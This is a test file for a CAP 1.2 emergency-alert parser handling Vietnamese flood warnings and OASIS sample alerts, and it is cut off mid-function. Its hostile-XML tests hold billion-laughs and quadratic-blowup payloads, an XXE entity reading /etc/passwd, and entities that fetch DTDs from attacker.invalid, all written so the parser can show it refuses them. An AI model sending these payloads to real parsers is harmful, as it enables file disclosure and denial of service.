"""Unit tests of agent.core.cap: CAP 1.2 in emergency commands (PROTOCOL.md section 6).

Every rule in both forms (structured ``cap`` and ``cap_xml``), hostile XML, and properties: decide()
raises nothing but CapError whatever the CAP, and never extends the command's expiry.
"""

from __future__ import annotations

import string
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.core.cap import (
    CAP_NS,
    HEADLINE_MAX,
    MAX_DEPTH,
    MAX_ELEMENTS,
    MAX_XML_BYTES,
    CapDecision,
    CapError,
    decide,
)
from tests.harness.fuzz import budget

ICT = timezone(timedelta(hours=7))
COMMAND_EXPIRES = datetime(2026, 11, 22, 12, 0, tzinfo=ICT)
EARLIER = "2026-11-22T11:00:00+07:00"
LATER = "2026-11-22T18:00:00+07:00"


def command(**extra: Any) -> dict[str, Any]:
    """A verified emergency command body (PROTOCOL.md section 6), plus the given fields."""
    body: dict[str, Any] = {
        "kind": "command",
        "schema": 1,
        "id": "5f0c9e2a-3b1d-4c6e-9a7f-0e4d2b8c1a11",
        "issuer": "25",
        "target": "25/08230",
        "issued_at": "2026-11-22T10:00:00+07:00",
        "expires": "2026-11-22T12:00:00+07:00",
        "action": "emergency",
        "priority": 100,
        "zones": ["all"],
        "media": {"url": "https://media.example/lu.mp3", "sha256": "a" * 64, "bytes": 123456},
    }
    body.update(extra)
    return body


def fields(**extra: Any) -> dict[str, Any]:
    """Structured CAP: the schema's six required fields, plus the given ones."""
    cap: dict[str, Any] = {
        "identifier": "VN-KTTV-2026-1122-001",
        "sender": "canhbao@kttv.gov.vn",
        "sent": "2026-11-22T10:00:00+07:00",
        "status": "Actual",
        "msgType": "Alert",
        "scope": "Public",
    }
    cap.update(extra)
    return cap


def xml_info(
    *,
    event: str = "Lũ quét",
    headline: str | None = "Cảnh báo lũ quét tại xã Tân Lập",
    expires: str | None = None,
    language: str | None = "vi-VN",
    extra: str = "",
) -> str:
    parts = ["<info>"]
    if language is not None:
        parts.append(f"<language>{language}</language>")
    parts.append(
        f"<category>Met</category><event>{event}</event><responseType>Evacuate</responseType>"
        "<urgency>Immediate</urgency><severity>Extreme</severity><certainty>Likely</certainty>"
    )
    if expires is not None:
        parts.append(f"<expires>{expires}</expires>")
    if headline is not None:
        parts.append(f"<headline>{headline}</headline>")
    parts.append(
        "<description>Mưa lớn gây lũ quét trên suối Nậm Khao; di chuyển lên chỗ cao.</description>"
        f"{extra}<area><areaDesc>Xã Tân Lập</areaDesc>"
        "<geocode><valueName>VN-DVHC</valueName><value>08230</value></geocode></area></info>"
    )
    return "".join(parts)


def xml_alert(
    *,
    status: str = "Actual",
    msg_type: str = "Alert",
    references: str | None = None,
    infos: tuple[str, ...] | None = None,
    header: str = "",
    namespace: str = CAP_NS,
) -> str:
    """A CAP 1.2 document from the Vietnamese hydro-meteorological service, as tests need it."""
    refs = "" if references is None else f"<references>{references}</references>"
    body = xml_info() if infos is None else "".join(infos)
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<alert xmlns="{namespace}">\n'
        "  <identifier>VN-KTTV-2026-1122-001</identifier>\n"
        "  <sender>canhbao@kttv.gov.vn</sender>\n"
        "  <sent>2026-11-22T10:00:00+07:00</sent>\n"
        f"  <status>{status}</status>\n"
        f"  <msgType>{msg_type}</msgType>\n"
        "  <scope>Public</scope>\n"
        f"  {refs}{header}\n"
        f"  {body}\n"
        "</alert>\n"
    )


# The examples of the CAP 1.2 specification (OASIS, Appendix A), lightly abridged.
OASIS_THUNDERSTORM = """<?xml version = "1.0" encoding = "UTF-8"?>
<alert xmlns = "urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>KSTO1055887203</identifier>
  <sender>KSTO@NWS.NOAA.GOV</sender>
  <sent>2003-06-17T14:57:00-07:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <scope>Public</scope>
  <info>
    <category>Met</category>
    <event>SEVERE THUNDERSTORM</event>
    <responseType>Shelter</responseType>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Observed</certainty>
    <eventCode>
      <valueName>SAME</valueName>
      <value>SVR</value>
    </eventCode>
    <expires>2003-06-17T16:00:00-07:00</expires>
    <senderName>NATIONAL WEATHER SERVICE SACRAMENTO CA</senderName>
    <headline>SEVERE THUNDERSTORM WARNING</headline>
    <description> AT 254 PM PDT...NATIONAL WEATHER SERVICE DOPPLER RADAR INDICATED A SEVERE
      THUNDERSTORM OVER SOUTH CENTRAL ALPINE COUNTY...OR ABOUT 18 MILES SOUTHEAST OF
      KIRKWOOD...MOVING SOUTHWEST AT 5 MPH. HAIL...INTENSE RAIN AND STRONG DAMAGING WINDS ARE
      LIKELY WITH THIS STORM.</description>
    <instruction>TAKE COVER IN A SUBSTANTIAL SHELTER UNTIL THE STORM PASSES.</instruction>
    <contact>BARUFFALDI/JUSKIE</contact>
    <area>
      <areaDesc>EXTREME NORTH CENTRAL TUOLUMNE COUNTY IN CALIFORNIA, EXTREME NORTHEASTERN
        CALAVERAS COUNTY IN CALIFORNIA, SOUTHWESTERN ALPINE COUNTY IN CALIFORNIA</areaDesc>
      <polygon>38.47,-120.14 38.34,-119.95 38.52,-119.74 38.62,-119.89 38.47,-120.14</polygon>
      <geocode>
        <valueName>SAME</valueName>
        <value>006109</value>
      </geocode>
      <geocode>
        <valueName>SAME</valueName>
        <value>006009</value>
      </geocode>
    </area>
  </info>
</alert>
"""

OASIS_EARTHQUAKE_UPDATE = """<?xml version = "1.0" encoding = "UTF-8"?>
<alert xmlns = "urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>TRI13970876.2</identifier>
  <sender>trinet@caltech.edu</sender>
  <sent>2003-06-11T20:56:00-07:00</sent>
  <status>Actual</status>
  <msgType>Update</msgType>
  <scope>Public</scope>
  <references>trinet@caltech.edu,TRI13970876.1,2003-06-11T20:30:00-07:00</references>
  <info>
    <category>Geo</category>
    <event>Earthquake</event>
    <urgency>Past</urgency>
    <severity>Minor</severity>
    <certainty>Observed</certainty>
    <senderName>Southern California Seismic Network (TriNet) operated by Caltech and
      USGS</senderName>
    <headline>EQ 3.4 Imperial County CA</headline>
    <description>A minor earthquake measuring 3.4 on the Richter scale occurred near Brawley,
      California at 8:30 PM Pacific Daylight Time on Wednesday, June 11, 2003. (This event has now
      been reviewed by a seismologist)</description>
    <web>http://www.trinet.org/scsn/scsn.html</web>
    <parameter>
      <valueName>EventID</valueName>
      <value>13970876</value>
    </parameter>
    <parameter>
      <valueName>Magnitude</valueName>
      <value>3.4 Ml</value>
    </parameter>
    <area>
      <areaDesc>1 mi. WSW of Brawley, CA; 11 mi. N of El Centro, CA; 30 mi. E of OCOTILLO
        (quarry); 1 mi. N of the Imperial Fault</areaDesc>
      <circle>32.9525,-115.5527 0</circle>
    </area>
  </info>
</alert>
"""

OASIS_AMBER_MULTILINGUAL = """<?xml version = "1.0" encoding = "UTF-8"?>
<alert xmlns = "urn:oasis:names:tc:emergency:cap:1.2">
  <identifier>KAR0-0306112239-SW</identifier>
  <sender>KARO@CLETS.DOJ.CA.GOV</sender>
  <sent>2003-06-11T22:39:00-07:00</sent>
  <status>Actual</status>
  <msgType>Alert</msgType>
  <source>SW</source>
  <scope>Public</scope>
  <info>
    <language>en-US</language>
    <category>Rescue</category>
    <event>Child Abduction</event>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Likely</certainty>
    <eventCode>
      <valueName>SAME</valueName>
      <value>CAE</value>
    </eventCode>
    <senderName>Los Angeles Police Dept - LAPD</senderName>
    <headline>Amber Alert in Los Angeles County</headline>
    <description>DATE/TIME: 06/11/03, 1915 HRS. VICTIM(S): KHAYRI DOE JR. M/B BLK/BRO 3'0",
      40 LBS. LIGHT COMPLEXION. DOB 06/24/01. WEARING RED SHORTS, WHITE T-SHIRT, W/BLUE
      COLLAR.</description>
    <contact>LAPD COMMAND CENTER 213 485-2389</contact>
    <area>
      <areaDesc>Los Angeles County</areaDesc>
      <geocode>
        <valueName>SAME</valueName>
        <value>006037</value>
      </geocode>
    </area>
  </info>
  <info>
    <language>es-US</language>
    <category>Rescue</category>
    <event>Abducción de Niño</event>
    <urgency>Immediate</urgency>
    <severity>Severe</severity>
    <certainty>Likely</certainty>
    <senderName>Departamento de Policía de Los Ángeles - LAPD</senderName>
    <headline>Alerta Amber en el condado de Los Ángeles</headline>
    <description>DATE/TIME: 06/11/03, 1915 HORAS. VÍCTIMAS: KHAYRI DOE JR.</description>
    <area>
      <areaDesc>condado de Los Ángeles</areaDesc>
    </area>
  </info>
</alert>
"""


def decide_xml(document: str, *, sound_tests: bool = False, **extra: Any) -> CapDecision:
    return decide(command(cap_xml=document, **extra), COMMAND_EXPIRES, sound_tests=sound_tests)


def decide_fields(cap: Any, *, sound_tests: bool = False, **extra: Any) -> CapDecision:
    return decide(command(cap=cap, **extra), COMMAND_EXPIRES, sound_tests=sound_tests)


# -- no CAP ----------------------------------------------------------------------------------------
def test_a_command_without_cap_sounds_until_its_own_expiry() -> None:
    decision = decide(command(), COMMAND_EXPIRES)
    assert decision == CapDecision("sound", None, COMMAND_EXPIRES, (), None, None, None, None)


def test_a_naive_command_expiry_is_the_callers_mistake_not_a_cap_error() -> None:
    with pytest.raises(ValueError, match="timezone-aware") as caught:
        decide(command(cap=fields()), COMMAND_EXPIRES.replace(tzinfo=None))
    assert not isinstance(caught.value, CapError)


# -- status and msgType, structured form -----------------------------------------------------------
def test_structured_actual_alert_sounds() -> None:
    decision = decide_fields(fields(headline="Cảnh báo lũ quét"))
    assert decision == CapDecision(
        "sound",
        None,
        COMMAND_EXPIRES,
        (),
        "VN-KTTV-2026-1122-001",
        "Actual",
        "Alert",
        "Cảnh báo lũ quét",
    )


@pytest.mark.parametrize("status", ["Test", "Exercise"])
@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_tests_and_exercises_are_silent_unless_configured(status: str, form: str) -> None:
    def run(sound_tests: bool) -> CapDecision:
        if form == "cap":
            return decide_fields(fields(status=status), sound_tests=sound_tests)
        return decide_xml(xml_alert(status=status), sound_tests=sound_tests)

    silent = run(False)
    assert (silent.action, silent.status, silent.cancels) == ("silent", status, ())
    assert silent.reason is not None and status in silent.reason
    loud = run(True)
    assert (loud.action, loud.reason) == ("sound", None)


@pytest.mark.parametrize("status", ["System", "Draft"])
@pytest.mark.parametrize("sound_tests", [False, True])
@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_system_and_draft_never_sound(status: str, sound_tests: bool, form: str) -> None:
    if form == "cap":
        decision = decide_fields(fields(status=status), sound_tests=sound_tests)
    else:
        decision = decide_xml(xml_alert(status=status), sound_tests=sound_tests)
    assert decision.action == "silent"
    assert decision.reason is not None and status in decision.reason


@pytest.mark.parametrize("msg_type", ["Ack", "Error"])
@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_ack_and_error_carry_no_alert(msg_type: str, form: str) -> None:
    ref = "canhbao@kttv.gov.vn,VN-KTTV-2026-1122-000,2026-11-22T09:00:00+07:00"
    if form == "cap":
        decision = decide_fields(fields(msgType=msg_type, references=ref), sound_tests=True)
    else:
        decision = decide_xml(xml_alert(msg_type=msg_type, references=ref), sound_tests=True)
    assert (decision.action, decision.msg_type, decision.cancels) == ("silent", msg_type, ())


# -- Cancel and Update -----------------------------------------------------------------------------
TWO_REFS = (
    "canhbao@kttv.gov.vn,VN-KTTV-2026-1122-000,2026-11-22T09:00:00+07:00\n"
    "   canhbao@kttv.gov.vn,VN-KTTV-2026-1121-007,2026-11-21T17:00:00+07:00"
)


@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_cancel_names_the_command_id_first_then_the_cap_identifiers(form: str) -> None:
    extra: dict[str, Any] = {"action": "cancel", "references": "cmd-2026-1122-000"}
    if form == "cap":
        decision = decide_fields(fields(msgType="Cancel", references=TWO_REFS), **extra)
    else:
        decision = decide_xml(xml_alert(msg_type="Cancel", references=TWO_REFS), **extra)
    assert decision.action == "cancel"
    assert decision.reason is None
    assert decision.cancels == (
        "cmd-2026-1122-000",
        "VN-KTTV-2026-1122-000",
        "VN-KTTV-2026-1121-007",
    )


def test_cancel_by_cap_references_alone() -> None:
    decision = decide_fields(fields(msgType="Cancel", references=TWO_REFS))
    assert decision.cancels == ("VN-KTTV-2026-1122-000", "VN-KTTV-2026-1121-007")


def test_cancel_by_the_command_references_alone() -> None:
    decision = decide_fields(fields(msgType="Cancel"), action="cancel", references="cmd-1")
    assert (decision.action, decision.cancels) == ("cancel", ("cmd-1",))


def test_cancels_are_listed_once() -> None:
    refs = "a@b,X1,2026-11-22T09:00:00+07:00 c@d,X1,2026-11-22T09:30:00+07:00"
    decision = decide_fields(fields(msgType="Cancel", references=refs), references="X1")
    assert decision.cancels == ("X1",)


@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_a_cancel_that_names_nothing_is_malformed(form: str) -> None:
    with pytest.raises(CapError, match="names nothing"):
        if form == "cap":
            decide_fields(fields(msgType="Cancel", status="Draft"))
        else:
            decide_xml(xml_alert(msg_type="Cancel", references="  "))


@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_update_sounds_and_replaces_what_it_references(form: str) -> None:
    ref = "canhbao@kttv.gov.vn,VN-KTTV-2026-1122-000,2026-11-22T09:00:00+07:00"
    if form == "cap":
        decision = decide_fields(fields(msgType="Update", references=ref), references="cmd-0")
    else:
        decision = decide_xml(xml_alert(msg_type="Update", references=ref), references="cmd-0")
    assert (decision.action, decision.msg_type) == ("sound", "Update")
    assert decision.cancels == ("cmd-0", "VN-KTTV-2026-1122-000")


def test_oasis_earthquake_update_replaces_its_first_report() -> None:
    decision = decide_xml(OASIS_EARTHQUAKE_UPDATE)
    assert decision.action == "sound"
    assert decision.identifier == "TRI13970876.2"
    assert decision.cancels == ("TRI13970876.1",)
    assert decision.headline == "EQ 3.4 Imperial County CA"


def test_an_update_without_references_is_just_a_new_alert() -> None:
    decision = decide_fields(fields(msgType="Update"))
    assert (decision.action, decision.cancels) == ("sound", ())


def test_an_alert_replaces_nothing_even_with_a_command_references() -> None:
    ref = "canhbao@kttv.gov.vn,VN-KTTV-2026-1122-000,2026-11-22T09:00:00+07:00"
    decision = decide_fields(fields(references=ref), references="cmd-0")
    assert (decision.action, decision.cancels) == ("sound", ())


@pytest.mark.parametrize("msg_type", ["Cancel", "Update"])
def test_an_unsounded_test_cancels_or_replaces_nothing(msg_type: str) -> None:
    ref = "canhbao@kttv.gov.vn,VN-KTTV-2026-1122-000,2026-11-22T09:00:00+07:00"
    silent = decide_xml(xml_alert(status="Test", msg_type=msg_type, references=ref))
    assert (silent.action, silent.cancels) == ("silent", ())
    acted = decide_xml(
        xml_alert(status="Test", msg_type=msg_type, references=ref), sound_tests=True
    )
    assert acted.action == ("cancel" if msg_type == "Cancel" else "sound")
    assert acted.cancels == ("VN-KTTV-2026-1122-000",)


@pytest.mark.parametrize(
    "references",
    [
        "VN-KTTV-2026-1122-000",  # an identifier alone, not a triple
        "a@b,X1",
        "a@b,X1,2026-11-22T09:00:00+07:00,extra",
        "a@b,,2026-11-22T09:00:00+07:00",
        ",X1,2026-11-22T09:00:00+07:00",
        "a@b,X1,",
        "x" * 2049,
    ],
)
def test_malformed_references_are_refused(references: str) -> None:
    with pytest.raises(CapError, match="references"):
        decide_fields(fields(msgType="Cancel", references=references))


@pytest.mark.parametrize("references", [7, "", None, ["cmd-1"]])
def test_a_malformed_command_references_is_refused_when_read(references: object) -> None:
    with pytest.raises(CapError, match="command's references"):
        decide_fields(fields(msgType="Update"), references=references)


# -- expiry ----------------------------------------------------------------------------------------
@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_a_later_cap_expiry_cannot_extend_the_command(form: str) -> None:
    if form == "cap":
        decision = decide_fields(fields(expires=LATER))
    else:
        decision = decide_xml(xml_alert(infos=(xml_info(expires=LATER),)))
    assert decision.expires == COMMAND_EXPIRES


@pytest.mark.parametrize("form", ["cap", "cap_xml"])
def test_an_earlier_cap_expiry_shortens_the_command(form: str) -> None:
    if form == "cap":
        decision = decide_fields(fields(expires=EARLIER))
    else:
        decision = decide_xml(xml_alert(infos=(xml_info(expires=EARLIER),)))
    assert decision.expires == datetime(2026, 11, 22, 11, 0, tzinfo=ICT)


def test_cap_utc_spelled_minus_zero_is_utc() -> None:
    decision = decide_xml(xml_alert(infos=(xml_info(expires="2026-11-22T03:30:00-00:00"),)))
    assert decision.expires == datetime(2026, 11, 22, 3, 30, tzinfo=UTC)
    assert decision.expires.utcoffset() == timedelta(0)


def test_z_is_accepted_as_the_command_schema_allows_it() -> None:
    decision = decide_fields(fields(sent="2026-11-22T03:00:00Z", expires="2026-11-22T03:30:00Z"))
    assert decision.expires == datetime(2026, 11, 22, 3, 30, tzinfo=UTC)


def test_an_expiry_in_the_past_is_reported_not_judged() -> None:
    # The thunderstorm warning expired in 2003: the caller judges that against its clock.
    decision = decide_xml(OASIS_THUNDERSTORM)
    assert decision.expires == datetime(2003, 6, 17, 16, 0, tzinfo=timezone(-timedelta(hours=7)))
    assert decision.action == "sound"


def test_several_info_blocks_bound_the_alert_by_the_latest() -> None:
    infos = (
        xml_info(expires=EARLIER),
        xml_info(expires="2026-11-22T11:30:00+07:00", language="en-US", headline="Flash flood"),
    )
    decision = decide_xml(xml_alert(infos=infos))
    assert decision.expires == datetime(2026, 11, 22, 11, 30, tzinfo=ICT)


def test_an_info_block_without_expiry_leaves_the_command_expiry() -> None:
    infos = (xml_info(expires=EARLIER), xml_info(language="en-US", headline="Flash flood"))
    assert decide_xml(xml_alert(infos=infos)).expires == COMMAND_EXPIRES


def test_no_info_at_all_leaves_the_command_expiry() -> None:
    assert decide_xml(xml_alert(infos=())).expires == COMMAND_EXPIRES
    assert decide_fields(fields()).expires == COMMAND_EXPIRES


def test_structured_info_list() -> None:
    cap = fields(
        info=[
            {"language": "en-US", "event": "Flash flood", "expires": EARLIER},
            {"language": "vi", "headline": "Lũ quét", "expires": "2026-11-22T11:15:00+07:00"},
        ]
    )
    decision = decide_fields(cap)
    assert decision.expires == datetime(2026, 11, 22, 11, 15, tzinfo=ICT)
    assert decision.headline == "Lũ quét"


def test_structured_single_info_object() -> None:
    decision = decide_fields(fields(info={"event": "Lũ quét", "expires": EARLIER}))
    assert (decision.expires, decision.headline) == (
        datetime(2026, 11, 22, 11, tzinfo=ICT),
        "Lũ quét",
    )


def test_cancel_decisions_carry_the_effective_expiry_too() -> None:
    decision = decide_fields(fields(msgType="Cancel", expires=EARLIER), references="cmd-1")
    assert decision.expires == datetime(2026, 11, 22, 11, 0, tzinfo=ICT)


# -- headline --------------------------------------------------------------------------------------
def test_headline_is_truncated_and_whitespace_collapsed() -> None:
    long = "Cảnh   báo\n  " + "lũ " * 200
    decision = decide_xml(xml_alert(infos=(xml_info(headline=long),)))
    assert decision.headline is not None
    assert len(decision.headline) == HEADLINE_MAX
    assert decision.headline.startswith("Cảnh báo lũ lũ")


def test_headline_falls_back_to_the_event() -> None:
    decision = decide_xml(xml_alert(infos=(xml_info(headline=None, event="Sạt lở đất"),)))
    assert decision.headline == "Sạt lở đất"
    assert decide_fields(fields(event="Sạt lở đất")).headline == "Sạt lở đất"


def test_headline_prefers_vietnamese() -> None:
    infos = (xml_info(language="en-US", headline="Flash flood warning"), xml_info(language="vi"))
    assert decide_xml(xml_alert(infos=infos)).headline == "Cảnh báo lũ quét tại xã Tân Lập"


def test_headline_of_the_oasis_multilingual_amber_alert_is_the_first_block() -> None:
    decision = decide_xml(OASIS_AMBER_MULTILINGUAL)
    assert decision.headline == "Amber Alert in Los Angeles County"
    assert (decision.action, decision.identifier) == ("sound", "KAR0-0306112239-SW")
    assert decision.expires == COMMAND_EXPIRES  # neither block has an expiry


def test_no_headline_without_info() -> None:
    assert decide_xml(xml_alert(infos=())).headline is None


# -- structured form: refusals ---------------------------------------------------------------------
@pytest.mark.parametrize("missing", ["identifier", "sender", "sent", "status", "msgType", "scope"])
def test_structured_required_fields(missing: str) -> None:
    cap = fields()
    del cap[missing]
    with pytest.raises(CapError, match=missing):
        decide_fields(cap)


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("identifier", ""),
        ("identifier", "two words"),
        ("identifier", "a,b"),
        ("identifier", "a<b"),
        ("identifier", "a&b"),
        ("identifier", "x" * 257),
        ("identifier", 42),
        ("sender", "kttv gov"),
        ("sender", None),
        ("sent", "2026-11-22 10:00:00+07:00"),
        ("sent", "2026-11-22T10:00:00"),  # no offset
        ("sent", "2026-02-30T10:00:00+07:00"),
        ("sent", "9999-12-31T23:59:59+07:00"),
        ("status", "actual"),
        ("status", "Real"),
        ("status", ["Actual"]),
        ("msgType", "Alarm"),
        ("scope", "Everyone"),
        ("references", 5),
        ("expires", "tomorrow"),
        ("expires", 1700000000),
        ("headline", ["a"]),
        ("info", "not an object"),
        ("info", [{"expires": "soon"}]),
        ("info", [5]),
    ],
)
def test_structured_malformed_values(key: str, value: object) -> None:
    with pytest.raises(CapError):
        decide_fields(fields(**{key: value}))


@pytest.mark.parametrize(
    "cap",
    [
        fields(sent="9" * 60000),
        fields(status="S" * 60000),
        fields(identifier="I " * 30000),
        fields(msgType="Cancel", references="r" * 2000),
    ],
)
def test_error_messages_stay_short(cap: dict[str, Any]) -> None:
    # A refusal becomes an event detail: the sender's text must not ride along whole.
    with pytest.raises(CapError) as caught:
        decide_fields(cap)
    assert len(str(caught.value)) < 300


def test_structured_cap_must_be_an_object() -> None:
    for value in (None, "Actual", ["identifier"], 3):
        with pytest.raises(CapError, match="object"):
            decide_fields(value)


def test_info_and_its_shorthand_together_are_refused() -> None:
    with pytest.raises(CapError, match="together"):
        decide_fields(fields(expires=EARLIER, info=[{"expires": LATER}]))


def test_unknown_structured_fields_are_ignored() -> None:
    decision = decide_fields(fields(note="diễn tập", code="IPAWSv1.0", restriction=None))
    assert decision.action == "sound"


def test_cap_and_cap_xml_together_are_refused() -> None:
    with pytest.raises(CapError, match="not both"):
        decide(command(cap=fields(), cap_xml=xml_alert()), COMMAND_EXPIRES)


# -- cap_xml: accepted documents -------------------------------------------------------------------
def test_oasis_thunderstorm_warning() -> None:
    decision = decide_xml(OASIS_THUNDERSTORM)
    assert (decision.identifier, decision.status, decision.msg_type) == (
        "KSTO1055887203",
        "Actual",
        "Alert",
    )
    assert decision.headline == "SEVERE THUNDERSTORM WARNING"


def test_vietnamese_flood_warning() -> None:
    decision = decide_xml(xml_alert(infos=(xml_info(expires=EARLIER),)))
    assert decision == CapDecision(
        "sound",
        None,
        datetime(2026, 11, 22, 11, 0, tzinfo=ICT),
        (),
        "VN-KTTV-2026-1122-001",
        "Actual",
        "Alert",
        "Cảnh báo lũ quét tại xã Tân Lập",
    )


def test_prefixed_namespace_bom_comments_and_cdata_are_fine() -> None:
    document = (
        "\ufeff<?xml version='1.0' encoding='utf-8'?><!-- from the province gateway -->"
        f'<cap:alert xmlns:cap="{CAP_NS}"><cap:identifier> X-1 </cap:identifier>'
        "<cap:sender>s@x</cap:sender><cap:sent>2026-11-22T10:00:00+07:00</cap:sent>"
        "<cap:status>Actual</cap:status><cap:msgType>Alert</cap:msgType>"
        "<cap:scope>Public</cap:scope><cap:info><cap:category>Safety</cap:category>"
        "<cap:event><![CDATA[Sơ tán & trú ẩn]]></cap:event><cap:urgency>Immediate</cap:urgency>"
        "<cap:severity>Severe</cap:severity><cap:certainty>Observed</cap:certainty>"
        "</cap:info></cap:alert>"
    )
    decision = decide_xml(document)
    assert (decision.identifier, decision.headline) == ("X-1", "Sơ tán & trú ẩn")


def test_foreign_elements_and_unread_cap_elements_are_ignored() -> None:
    signature = (
        '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo>'
        '<Reference URI=""><Transforms><Transform Algorithm="x"><XPath>x</XPath></Transform>'
        "</Transforms></Reference></SignedInfo><SignatureValue>AAAA</SignatureValue></Signature>"
    )
    header = f"<note>Diễn tập</note><code>VN</code><code>KTTV</code>{signature}"
    assert decide_xml(xml_alert(header=header)).action == "sound"


def test_entities_and_character_references_xml_itself_defines_are_fine() -> None:
    document = xml_alert(infos=(xml_info(headline="Lũ &amp; sạt lở &#x2014; &lt;khẩn&gt;"),))
    assert decide_xml(document).headline == "Lũ & sạt lở \u2014 <khẩn>"


def test_a_document_of_exactly_64_kib_is_accepted() -> None:
    base = xml_alert(infos=(xml_info(extra="<instruction></instruction>"),))
    padding = MAX_XML_BYTES - len(base.encode("utf-8"))
    document = base.replace("<instruction>", "<instruction>" + "x" * padding)
    assert len(document.encode("utf-8")) == MAX_XML_BYTES
    assert decide_xml(document).action == "sound"


# -- cap_xml: hostile documents --------------------------------------------------------------------
BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE alert [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + f']>\n<alert xmlns="{CAP_NS}"><identifier>&lol9;</identifier></alert>'
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE alert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + xml_alert(header="<note>&xxe;</note>").split("\n", 1)[1]
)
PARAMETER_ENTITY = (
    '<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>'
    + xml_alert().split("\n", 1)[1]
)
EXTERNAL_DTD = (
    '<!DOCTYPE alert SYSTEM "http://attacker.invalid/cap.dtd">' + xml_alert().split("\n", 1)[1]
)
QUADRATIC_BLOWUP = (
    f'<!DOCTYPE alert [<!ENTITY a "{"A" * 30000}">]>'
    + xml_alert(header="<note>" + "&a;" * 1000 + "</note>").split("\n", 1)[1]
)
BARE_DOCTYPE = "<!DOCTYPE alert>" + xml_alert().split("\n", 1)[1]


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        EXTERNAL_DTD,
        QUADRATIC_BLOWUP,
        BARE_DOCTYPE,
    ],
    ids=["billion-laughs", "xxe-file", "parameter-entity", "external-dtd", "quadratic", "doctype"],
)
def test_any_doctype_is_refused(document: str) -> None:
    assert len(document.encode("utf-8")) <= MAX_XML_BYTES  # refused for the DTD, not the size
    with pytest.raises(CapError, match="DOCTYPE"):
        decide_xml(document)


def test_an_undeclared_entity_is_not_well_formed() -> None:
    with pytest.raises(CapError, match="well-formed"):
        decide_xml(xml_alert(header="<note>&xxe;</note>"))


def test_a_70_kib_document_is_refused() -> None:
    document = xml_alert(infos=(xml_info(extra=f"<instruction>{'x' * 70 * 1024}</instruction>"),))
    with pytest.raises(CapError, match="bytes"):
        decide_xml(document)


def test_size_is_counted_in_utf8_bytes_not_characters() -> None:
    # 22000 "ữ" are 22000 characters (within the schema's maxLength) but 66000 bytes.
    document = xml_alert(infos=(xml_info(extra=f"<instruction>{'ữ' * 22000}</instruction>"),))
    assert len(document) < MAX_XML_BYTES < len(document.encode("utf-8"))
    with pytest.raises(CapError, match="bytes"):
        decide_xml(document)


def test_deep_nesting_is_refused() -> None:
    depth = 8000  # "<n>" + "</n>" is 7 bytes a level: 56 KB
    with pytest.raises(CapError, match="deeper"):
        decide_xml(xml_alert(header="<n>" * depth + "</n>" * depth))


def test_nesting_just_within_the_limit_is_accepted() -> None:
    levels = MAX_DEPTH - 1  # the alert itself is level one
    assert decide_xml(xml_alert(header="<n>" * levels + "</n>" * levels)).action == "sound"
    with pytest.raises(CapError, match="deeper"):
        decide_xml(xml_alert(header="<n>" * (levels + 1) + "</n>" * (levels + 1)))


def test_too_many_elements_are_refused() -> None:
    with pytest.raises(CapError, match="elements"):
        decide_xml(xml_alert(header="<n/>" * MAX_ELEMENTS))


def test_whitespace_around_values_is_not_part_of_them() -> None:
    document = xml_alert(status="\n    Actual\t", msg_type=" Alert ")
    assert (decide_xml(document).status, decide_xml(document).msg_type) == ("Actual", "Alert")


@pytest.mark.parametrize(
    ("namespace", "match"),
    [
        ("urn:oasis:names:tc:emergency:cap:1.1", r"CAP 1\.2 alert"),
        ("http://www.incident.com/cap/1.0", r"CAP 1\.2 alert"),
        ("", r"CAP 1\.2 alert"),  # xmlns="" is no namespace
        # expat refuses a namespace holding its name separator (a space here), so no look-alike
        # namespace can forge the "namespace local-name" string.
        (f"{CAP_NS} alert", "well-formed"),
        (f"{CAP_NS} ", "well-formed"),
    ],
)
def test_wrong_namespace_is_refused(namespace: str, match: str) -> None:
    with pytest.raises(CapError, match=match):
        decide_xml(xml_alert(namespace=namespace))


def test_no_namespace_at_all_is_refused() -> None:
    with pytest.raises(CapError, match=r"CAP 1\.2 alert"):
        decide_xml(xml_alert().replace(f' xmlns="{CAP_NS}"', ""))


def test_header_elements_in_another_namespace_do_not_count() -> None:
    document = xml_alert().replace(
        "<status>Actual</status>", '<status xmlns="urn:other">Actual</status>'
    )
    with pytest.raises(CapError, match="status"):
        decide_xml(document)


def test_root_must_be_alert() -> None:
    with pytest.raises(CapError, match=r"CAP 1\.2 alert"):
        decide_xml(f'<info xmlns="{CAP_NS}"><event>x</event></info>')


@pytest.mark.parametrize("missing", ["identifier", "sender", "sent", "status", "msgType", "scope"])
def test_xml_required_header_elements(missing: str) -> None:
    document = xml_alert()
    start = document.index(f"<{missing}>")
    end = document.index(f"</{missing}>") + len(missing) + 3
    with pytest.raises(CapError, match=missing):
        decide_xml(document[:start] + document[end:])


@pytest.mark.parametrize("missing", ["category", "event", "urgency", "severity", "certainty"])
def test_xml_required_info_elements(missing: str) -> None:
    info = xml_info()
    start = info.index(f"<{missing}>")
    end = info.index(f"</{missing}>") + len(missing) + 3
    with pytest.raises(CapError, match=missing):
